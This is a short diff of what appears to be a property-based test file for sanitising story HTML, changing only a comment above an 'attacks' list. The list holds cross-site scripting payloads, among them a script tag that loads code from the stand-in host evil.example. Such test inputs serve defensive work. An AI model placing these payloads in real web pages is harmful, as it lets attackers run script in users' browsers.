@@ -6,7 +6,7 @@ export const anyCharacter = fc
   .integer({ min: 0, max: 0x10ffff - surrogates })
   .map((point) => String.fromCodePoint(point < 0xd800 ? point : point + surrogates));
 
-/** Each tries to run a script, to load one, or to leave the story's element. */
+/** Attempts to run or load a script, or to break out of the story's element. */
 export const attacks = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
